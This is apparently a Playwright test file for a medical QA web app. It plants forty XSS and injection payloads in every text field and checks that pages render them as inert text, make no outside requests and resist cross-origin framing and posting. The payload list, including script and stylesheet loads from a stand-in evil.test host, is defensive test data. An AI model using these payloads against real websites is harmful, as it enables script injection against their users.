"""Every page in a real browser, dark and light: silent, without a violation of the policy, and text stays text."""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from playwright.sync_api import Browser, BrowserContext, Page, expect
from support.workbench import CHEAP, Site

from mediqa_node.domain.access import Outcome, Role
from mediqa_node.domain.commands import CommandAction, CommandState
from mediqa_node.domain.worklist import AnswerKind
from mediqa_node.storage import answers, audit_trail, commands, sessions, users, worklist
from mediqa_node.storage.tables import series
from mediqa_node.storage.workbench_tables import delivery_attempts
from mediqa_node.web import keys
from mediqa_node.web.access import COOKIE

pytestmark = pytest.mark.peers

PAYLOADS = (
    "<script>hit()</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=hit()>",
    "<img src=//evil.test/x.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><a href=javascript:hit()><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<body onload=hit()>",
    "<iframe src=javascript:parent.hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<a href=javascript:hit()>x</a>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<style>@import '//evil.test/x.css';</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>",
    "<p style=animation-name:arrive onanimationstart=hit()>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    '" onmouseover="hit()" autofocus onfocus="hit()',
    "' onfocus='hit()' autofocus '",
    "\"}' hx-on:click='hit()",
    '", "x": "js:hit()", "y": "',
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</select><script>hit()</script>",
    "</template><script>hit()</script>",
    "<!--><script>hit()</script>-->",
    "<![CDATA[<script>hit()</script>]]>",
    "{{ self.__init__.__globals__ }}{% raw %}",
    "<div hx-get=/sign-out hx-trigger=load hx-on=hit()>",
    "\u202e<script>hit()</script>\u2066",
    "&lt;script&gt;hit()&lt;/script&gt;<b>&#x3C;script>",
)
assert len(PAYLOADS) == 40

WATCH = """
window.hit = () => console.error("HIT");
addEventListener("securitypolicyviolation", (event) => console.error("CSP", event.violatedDirective, event.blockedURI));
"""
PAGES = ("/", "/?received=all&q=%3Cscript%3Ehit()%3C/script%3E", "/series/1", "/operations", "/users", "/rooms",
         "/audit", "/account", "/labels", "/labels/exports", "/trends", "/trends/answers", "/trends/scanners",
         "/trends/dose", "/trends/checkpoints", "/trends/constancy")  # fmt: skip


PAGES_OF_PHYSICISTS = ("/reading", "/reading/new", "/calibrations")


@pytest.fixture
def hostile(site: Site) -> Site:
    """A site with each payload in every text that somebody else can write."""
    for i, text in enumerate(PAYLOADS):
        names = ("scanner", "model", "protocol", "description", "sender", "why", "why_more", "acquired", "destination")
        values: dict[str, Any] = dict.fromkeys(names, text)
        number = site.add_series(**values, unit=text[:8], accession_end=text[:4], delivery="parked", exclusions=text)
        delivery = site.add_delivery(1, destination=text, message=text)
        if number > 1:
            site.add_delivery(number, destination=text, message=text)
        with site.database.write() as connection:
            add_texts(site, connection, i, text, delivery)
    site.add_patient(1, name=" ".join(PAYLOADS), patient_id=PAYLOADS[0], accession_number=PAYLOADS[1])
    return site


def add_texts(site: Site, connection: Any, i: int, text: str, delivery: int) -> None:
    """Write a payload where people, peers and configuration write."""
    users.add(connection, text, Role.READER, CHEAP.hash("x"), by=text, at=site.clock())
    sessions.add_room(connection, text, [text], by=text, at=site.clock(), valid_s=900.0)
    audit_trail.add(connection, text[:32], at=site.clock(), by=text, role=text[:16], address=text, on=text, detail=text)
    entry = worklist.find(connection, 1)
    assert entry is not None
    answers.give(
        connection, entry, AnswerKind.KEPT, by=text, role=text[:16], at=site.clock(), initials=text, reason=text
    )
    asked = commands.ask(connection, CommandAction.ECHO, {"peer": text}, by=text, at=site.clock())
    commands.end(connection, asked, CommandState.FAILED, text, at=site.clock())
    attempt = {"delivery_id": delivery, "at": site.clock(), "state": "parked", "message": text}
    connection.execute(sa.insert(delivery_attempts).values(**attempt))
    held = {"state": "PARKED", "reason_code": "no_pixels", "reason": text}
    stopped = sa.update(series).where(series.c.series_instance_uid == f"1.2.3.{i + 1}", sa.literal(i % 4 == 3))
    connection.execute(stopped.values(**held))


@contextmanager
def looking(
    browser: Browser, address: str, token: str | None, **options: Any
) -> Iterator[tuple[BrowserContext, list[str]]]:
    """Open a browser that reaches this address alone; give it and what went wrong in it."""
    wrong: list[str] = []
    context = browser.new_context(base_url=address, **options)

    def only_the_node(route: Any) -> None:
        if route.request.url.startswith(address):
            route.continue_()
        else:
            wrong.append(f"outside: {route.request.url}")
            route.abort()

    context.route("**/*", only_the_node)
    context.add_init_script(WATCH)
    context.on("console", lambda message: wrong.append(f"{message.type}: {message.text}"))
    context.on("weberror", lambda error: wrong.append(f"error: {error.error}"))
    context.on("dialog", lambda dialog: (wrong.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    if token is not None:
        context.add_cookies([{"name": COOKIE, "value": token, "url": address}])
    try:
        yield context, wrong
    finally:
        context.close()


def is_one_document(page: Page) -> None:
    """Assert that no payload has become an element."""
    made = page.locator("iframe, object, embed, math, video, audio, base, style, meta[http-equiv=refresh], [onload]")
    assert made.count() == 0
    assert page.evaluate("[...document.scripts].every((one) => one.src.startsWith(location.origin))")
    names = "[...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"
    assert not [name for name in page.evaluate(names) if name.startswith(("on", "hx-on"))]


@pytest.mark.parametrize("theme", ["dark", "light"])
def test_every_page_is_silent_and_text_of_others_stays_text(hostile: Site, browser: Browser, theme: str) -> None:
    token = hostile.token("administrator", "admin")
    with hostile.served() as address, looking(browser, address, token, color_scheme=theme) as (context, wrong):
        page = context.new_page()
        for path in PAGES:
            page.goto(path)
            is_one_document(page)
            assert wrong == [], path
        reader = {"name": COOKIE, "value": hostile.token("physicist", "physicist"), "url": address}
        context.add_cookies([reader])  # type: ignore[list-item]
        for path in PAGES_OF_PHYSICISTS:
            page.goto(path)
            is_one_document(page)
            assert wrong == [], path
        page.goto("/")
        shown = page.text_content("#rows") or ""

    assert not [one for one in PAYLOADS if one not in shown]  # it is there, as it was written


def test_what_scripts_put_into_a_page_stays_text(hostile: Site, browser: Browser) -> None:
    token = hostile.token("physicist", "physicist")
    with hostile.served() as address, looking(browser, address, token) as (context, wrong):
        page = context.new_page()
        page.goto("/")
        expect(page.locator("#stream")).to_have_attribute("data-state", "live", timeout=15_000)
        with hostile.database.write() as connection:
            columns = {"why": PAYLOADS[2], "description": PAYLOADS[2], "scanner": PAYLOADS[3]}
            worklist.save(connection, f"1.2.3.{len(PAYLOADS)}", columns)
        expect(page.locator(f"#s{len(PAYLOADS)} .why")).to_contain_text(PAYLOADS[2], timeout=15_000)
        is_one_document(page)
        page.goto("/series/1")
        page.get_by_role("button", name="Show name and number").click()
        expect(page.locator("#patient")).to_contain_text(PAYLOADS[0], timeout=15_000)
        is_one_document(page)

    assert wrong == []


def test_pages_for_nobody_are_silent_and_echo_text_as_text(site: Site, browser: Browser) -> None:
    with site.served() as address, looking(browser, address, None) as (context, wrong):
        page = context.new_page()
        for path in ("/sign-in?next=%22%3E%3Cscript%3Ehit()%3C/script%3E", "/enrol?code=%22%3E%3Cimg%20src=x"):
            page.goto(path)
            is_one_document(page)
        assert wrong == []
        page.goto("/sign-in")
        page.fill("[name=name]", PAYLOADS[24])
        page.fill("[name=password]", "wrong password")
        page.click("text=Sign in >> nth=-1")
        expect(page.locator("[name=name]")).to_have_value(PAYLOADS[24])
        is_one_document(page)

    assert [one for one in wrong if "401" not in one] == []  # the console names the status of the page


def test_signing_in_by_hand_opens_the_worklist_and_signing_out_closes_it(site: Site, browser: Browser) -> None:
    site.add_user("jane", "physicist")
    with site.served() as address, looking(browser, address, None) as (context, wrong):
        page = context.new_page()
        page.goto("/operations")
        page.fill("[name=name]", "jane")
        page.fill("[name=password]", "a good long password")
        page.keyboard.press("Enter")
        expect(page.locator("h1")).to_have_text("Operations")
        page.goto("/account")
        page.get_by_role("button", name="Sign out").click()
        expect(page.locator("h1")).to_contain_text("Sign in")
        page.goto("/")
        expect(page.locator("h1")).to_contain_text("Sign in")

    assert wrong == []


def test_every_key_of_a_page_has_its_act_in_the_scripts(site: Site, browser: Browser) -> None:
    number = site.add_series()
    with site.served() as address, looking(browser, address, site.token("physicist")) as (context, wrong):
        page = context.new_page()
        for name, path in (("worklist", "/"), ("series", f"/series/{number}"), ("", "/account")):
            page.goto(path)
            acts = set(page.evaluate("Object.keys(workbench.acts)"))
            assert {key.act for key in keys.of_page(name)} <= acts, path

            page.keyboard.press("?")
            expect(page.locator("#keysheet")).to_be_visible()
            page.keyboard.press("Escape")
            expect(page.locator("#keysheet")).to_be_hidden()

    assert wrong == []


def test_another_site_can_neither_frame_nor_post(site: Site, browser: Browser, tmp_path: Path) -> None:
    with site.served() as address:
        evil = address.replace("127.0.0.1", "localhost")  # another site for the browser, the same server
        token = site.token("administrator", "admin")
        context = browser.new_context()
        context.add_cookies([{"name": COOKIE, "value": token, "url": address}])
        page = context.new_page()
        page.goto(f"{evil}/sign-in")
        framed = page.evaluate(
            """async (address) => {
                const frame = document.createElement("iframe");
                frame.src = address + "/";
                document.body.append(frame);
                await new Promise((done) => { frame.onload = done; setTimeout(done, 2000); });
                try { return frame.contentDocument?.title ?? ""; } catch { return ""; }
            }""",
            address,
        )
        posted = page.evaluate(
            """(address) => fetch(address + "/sign-out", { method: "POST", mode: "no-cors", credentials: "include" })
                .then((answer) => answer.type, () => "refused")""",
            address,
        )
        context.close()

    assert "Worklist" not in framed
    assert posted in ("opaque", "refused")
    assert not site.events("sign-out")
    assert not [one for one in site.events() if one.outcome == Outcome.DONE]
